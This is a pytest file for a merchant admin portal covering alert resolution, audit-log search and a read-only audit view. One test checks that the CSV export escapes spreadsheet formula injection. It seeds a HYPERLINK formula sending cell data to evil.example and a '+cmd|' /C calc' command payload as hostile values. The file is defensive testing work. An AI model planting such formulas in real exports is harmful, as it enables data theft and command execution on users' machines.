"""Alerts (support resolves them) and the read-only, searchable audit log."""

from __future__ import annotations

from portal.extensions import db
from portal.models import Alert, AuditLog
from tests.admin.conftest import add_merchant
from tests.conftest import csrf_token


def test_support_resolves_selected_alerts_and_it_is_audited(as_role):
    merchant = add_merchant()
    alert = Alert(dedupe_key="x", kind="hook_inactive", merchant_id=merchant.id, message="m")
    db.session.add(alert)
    db.session.commit()
    client = as_role("support")
    page = client.get("/admin/alerts/").get_data(as_text=True)
    response = client.post(
        "/admin/alerts/action/",
        data={"csrf_token": csrf_token(page), "action": "resolve", "rowid": [str(alert.id)]},
        follow_redirects=True,
    )
    assert "1 alert(s) resolved." in response.get_data(as_text=True)
    db.session.refresh(alert)
    assert alert.resolved_at is not None
    log = db.session.query(AuditLog).filter_by(action="alert.resolved").one()
    assert log.actor == "support@bindo.test" and log.merchant_id == merchant.id


def test_open_filter_hides_resolved_alerts(as_role):
    from portal.models import utcnow

    db.session.add_all(
        [
            Alert(dedupe_key="a", kind="open_one", message="still open"),
            Alert(dedupe_key="b", kind="closed_one", message="done", resolved_at=utcnow()),
        ]
    )
    db.session.commit()
    client = as_role("viewer")
    view = next(
        v for v in client.application.extensions["portal_admin"]._views if v.endpoint == "alerts"
    )
    index = next(i for i, f in enumerate(view._filters) if f.name == "Status")
    html = client.get("/admin/alerts/", query_string={f"flt0_{index}": "open"}).get_data(
        as_text=True
    )
    assert "still open" in html and "closed_one" not in html


def test_audit_log_is_searchable_by_merchant_action_and_actor(as_role):
    one, two = add_merchant("alpha"), add_merchant("beta")
    db.session.add_all(
        [
            AuditLog(
                actor_type="staff",
                actor="ann@bindo.test",
                action="merchant.paused",
                merchant_id=one.id,
            ),
            AuditLog(
                actor_type="staff",
                actor="bob@bindo.test",
                action="merchant.activated",
                merchant_id=two.id,
            ),
        ]
    )
    db.session.commit()
    client = as_role("viewer")

    def search(term: str) -> str:
        return client.get("/admin/audit/", query_string={"search": term}).get_data(as_text=True)

    assert "merchant.paused" in search("alpha") and "merchant.activated" not in search("alpha")
    assert "bob@bindo.test" in search("activated") and "ann@bindo.test" not in search("activated")
    assert "merchant.paused" in search("ann@") and "merchant.activated" not in search("ann@")


def test_audit_export_quotes_cells_a_spreadsheet_would_run_as_formulas(as_role):
    import csv
    import io

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    merchant = add_merchant("gamma", store_name=hostile)
    db.session.add_all(
        [
            AuditLog(actor_type="staff", actor="+cmd|' /C calc'!A0", action="-2+3",
                     merchant_id=merchant.id),
            AuditLog(actor_type="staff", actor="ann@bindo.test", action="merchant.paused",
                     merchant_id=merchant.id),
        ]
    )  # fmt: skip
    db.session.commit()
    response = as_role("viewer").get("/admin/audit/export/csv/")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    by_action = {row["Action"]: row for row in rows}
    assert by_action["'-2+3"]["Actor"] == "'+cmd|' /C calc'!A0"
    assert by_action["'-2+3"]["Merchant"] == "'" + hostile
    assert by_action["merchant.paused"]["Actor"] == "ann@bindo.test"  # plain text unchanged
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_audit_log_offers_no_create_edit_or_delete(as_role):
    client = as_role("admin")
    html = client.get("/admin/audit/").get_data(as_text=True)
    assert "/admin/audit/new/" not in html and "/admin/audit/edit/" not in html
    assert "/admin/audit/delete/" not in html
